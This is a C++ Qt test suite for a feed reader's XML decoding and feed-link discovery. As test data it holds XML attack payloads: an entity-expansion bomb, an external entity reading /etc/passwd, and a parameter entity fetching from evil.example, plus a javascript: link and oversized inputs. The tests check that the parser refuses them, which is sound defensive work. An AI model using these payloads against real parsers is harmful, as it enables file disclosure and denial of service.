// SPDX-FileCopyrightText: 2026 The Pregonero authors
// SPDX-License-Identifier: GPL-3.0-or-later
#include "plugins/feeds/discovery.h"
#include "plugins/feeds/document.h"

#include <QStringEncoder>
#include <QTest>

using namespace Qt::StringLiterals;
using namespace pregonero;
using namespace pregonero::feeds;

class TestFeedDocument final : public QObject
{
    Q_OBJECT

    static QByteArray in(const char *encoding, const QString &text)
    {
        QStringEncoder encoder(encoding);
        return encoder.isValid() ? QByteArray(encoder(text)) : QByteArray();
    }
    static QByteArray saying(const QByteArray &encoding, const QByteArray &text)
    {
        return "<?xml version=\"1.0\" encoding=\"" + encoding + "\"?><t>" + text + "</t>";
    }

private Q_SLOTS:
    void readsWhateverItIsCalled_data()
    {
        QTest::addColumn<QByteArray>("body");
        QTest::addColumn<QByteArray>("type");
        const QString words = u"Año nuevo: 3 € más"_s;
        const auto row = [](const char *tag, const QByteArray &body, const QByteArray &type = {}) {
            QTest::newRow(tag) << body << type;
        };
        row("UTF-8", saying("utf-8", words.toUtf8()));
        row("UTF-8 that says ISO-8859-1", saying("iso-8859-1", words.toUtf8()), "text/xml; charset=iso-8859-15");
        row("ISO-8859-15", saying("ISO-8859-15", in("ISO-8859-15", words)));
        row("ISO-8859-15 that says UTF-8", saying("utf-8", in("ISO-8859-15", words)));
        row("ISO-8859-15 that says ISO-8859-1", saying("ISO-8859-1", in("ISO-8859-15", words)));
        row("ISO-8859-15 that says nothing", "<t>" + in("ISO-8859-15", words) + "</t>");
        row("Windows-1252", saying("windows-1252", in("windows-1252", words)));
        row("Windows-1252 that says ISO-8859-15", saying("ISO-8859-15", in("windows-1252", words)));
        row("by the header", "<t>" + in("ISO-8859-15", words) + "</t>", "application/rss+xml; charset=\"ISO-8859-15\"");
        row("UTF-16 with a mark", "\xff\xfe" + in("UTF-16LE", u"<t>"_s + words + u"</t>"_s));
        row("UTF-16 without", in("UTF-16BE", u"<t>"_s + words + u"</t>"_s));
        row("an encoding of nobody's", saying("x-klingon", in("windows-1252", words)));
    }

    void readsWhateverItIsCalled()
    {
        QFETCH(QByteArray, body);
        QFETCH(QByteArray, type);
        if (QByteArray(QTest::currentDataTag()) == "an encoding of nobody's") {
            QVERIFY(decoded(body, type).contains(u"Año nuevo")); // as good as can be
            return;
        }
        const QString text = decoded(body, type);
        QVERIFY2(text.contains(u"Año nuevo: 3 € más"), qPrintable(text));
    }

    void oneCutLetterDoesNotSpoilTheRest()
    {
        const QByteArray body = saying("utf-8", u"Información, atención, año, niño… cami"_s.toUtf8() + "\xc3");
        const QString text = decoded(body, {});
        QVERIFY2(text.contains(u"Información, atención, año"), qPrintable(text));
    }

    void namedLettersAndLoneSignsAreRead()
    {
        const auto xml = strictXml(u"<t>Espa&ntilde;a &amp; A&B &unknown; &euro;&#0;&#x1F;&#241; &nbsp;<![CDATA[&ntilde; & <b>]]></t>"_s);
        QVERIFY2(xml, qPrintable(xml ? QString() : xml.error().detail));
        QVERIFY2(xml->contains("España &amp; A&amp;B &amp;unknown; €&#241;"), *xml);
        QVERIFY(xml->contains("<![CDATA[&ntilde; & <b>]]>"));
    }

    void charactersThatXmlDoesNotKnowAreLeftOut()
    {
        const auto xml = strictXml(u"\ufeff\n<t>a\u0001b\u000bc\ufffe"_s + QChar(0xd800) + u"d</t>"_s);
        QVERIFY(xml);
        QVERIFY2(xml->endsWith("<t>abcd</t>"), *xml);
    }

    void entitiesAreRefused_data()
    {
        QTest::addColumn<QString>("text");
        QTest::newRow("bomb") << u"<?xml version='1.0'?><!DOCTYPE lolz [<!ENTITY lol 'lol'><!ENTITY lol2 '&lol;&lol;&lol;'>]><rss><channel><title>&lol2;</title></channel></rss>"_s;
        QTest::newRow("external") << u"<!DOCTYPE r [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><rss>&x;</rss>"_s;
        QTest::newRow("parameter") << u"<!DOCTYPE r [<!ENTITY % p SYSTEM 'http://evil.example/p'> %p;]><rss/>"_s;
        QTest::newRow("lower case") << u"<!doctype r [<!entity x 'y'>]><rss>&x;</rss>"_s;
        QTest::newRow("behind a bracket in quotes") << u"<!DOCTYPE r SYSTEM 'a]>b' [<!ENTITY x 'y'>]><rss>&x;</rss>"_s;
        QTest::newRow("second document type") << u"<!DOCTYPE r><!DOCTYPE r [<!ENTITY x 'y'>]><rss>&x;</rss>"_s;
    }

    void entitiesAreRefused()
    {
        QFETCH(QString, text);
        const auto xml = strictXml(text);
        QVERIFY(!xml);
        QCOMPARE(xml.error().kind, ErrorKind::Protocol);
        QVERIFY2(xml.error().detail.contains(u"entities"), qPrintable(xml.error().detail));
    }

    void aDocumentTypeWithoutThemIsHarmless()
    {
        const auto xml = strictXml(u"<!DOCTYPE rss PUBLIC '-//N//DTD RSS 0.91//EN' 'http://x.example/rss.dtd'><rss>&oacute;</rss>"_s);
        QVERIFY(xml);
        QVERIFY2(xml->endsWith("<rss>ó</rss>"), *xml);
    }

    void depthAndSizeAreBounded()
    {
        const auto nested = [](int levels) { return u"<a>"_s.repeated(levels) + u"</a>"_s.repeated(levels); };
        QVERIFY(strictXml(nested(100)));
        QVERIFY(!strictXml(nested(101)));
        QVERIFY(!strictXml(nested(200'000)));
        QVERIFY(!strictXml(u"<r>"_s + u"<a/>"_s.repeated(300'000) + u"</r>"_s));
    }

    void whatIsBrokenSaysWhere()
    {
        const auto xml = strictXml(u"<rss>\n<channel>\n</rss>"_s);
        QVERIFY(!xml);
        QVERIFY2(xml.error().message.contains(u"line 3"), qPrintable(xml.error().message));
    }

    void pagesAreKnown()
    {
        QVERIFY(isWebPage(u"<!DOCTYPE html><html><head>"_s));
        QVERIFY(isWebPage(u"\ufeff \n<?xml version='1.0'?><!-- a --><!-- b -->\n<HTML lang=es>"_s));
        QVERIFY(!isWebPage(u"<?xml version='1.0'?><rss><channel><title>html</title>"_s));
        QVERIFY(!isWebPage(u"<!-- <html> -->"_s));
        QVERIFY(!isWebPage({}));
    }

    void pagesNameTheirFeeds()
    {
        const QString html = u"<!doctype html><html><head><base href='/es/'>"
                            "<link rel='stylesheet' type='text/css' href='x.css'>"
                            "<LINK REL='alternate' type='application/rss+xml' title='Noticias &amp; avisos' href='rss.php?a=1&amp;b=2'>"
                            "<link href=https://otro.example/atom rel='feed alternate' type=application/atom+xml />"
                            "<link rel='alternate' hreflang='ca' href='/ca/'>"
                            "<link rel='alternate' type='application/rss+xml' href='javascript:alert(1)'>"
                            "<link rel='alternate' type='application/rss+xml' title='otra vez' href='https://villanueva.example/es/rss.php?a=1&b=2#x'>"_s;
        const QList<NamedFeed> wanted{{u"Noticias & avisos"_s, QUrl(u"https://villanueva.example/es/rss.php?a=1&b=2"_s)},
                                      {{}, QUrl(u"https://otro.example/atom"_s)}};
        QCOMPARE(feedsNamedIn(html, QUrl(u"https://villanueva.example/portada"_s)), wanted);
        const QString said = pageInstead(wanted).message;
        QVERIFY(said.contains(u"Noticias & avisos") && said.contains(u"otro.example/atom"));
        QVERIFY(pageInstead({}).message.contains(u"names none"));
    }

    void aHostilePageTakesNoTime()
    {
        const QUrl address(u"https://villanueva.example/"_s);
        QCOMPARE(feedsNamedIn(u"<link "_s.repeated(200'000), address).size(), 0);
        QCOMPARE(feedsNamedIn(u"<link rel=alternate type=application/rss+xml href=a>"_s.repeated(10'000), address).size(), 1);
        QString many = u"<html>"_s;
        for (int i = 0; i < 1000; ++i)
            many += u"<link rel=alternate type=application/rss+xml href=%1>"_s.arg(i);
        QCOMPARE(feedsNamedIn(many, address).size(), 20);
    }
};

QTEST_GUILESS_MAIN(TestFeedDocument)
#include "tst_feeddocument.moc"
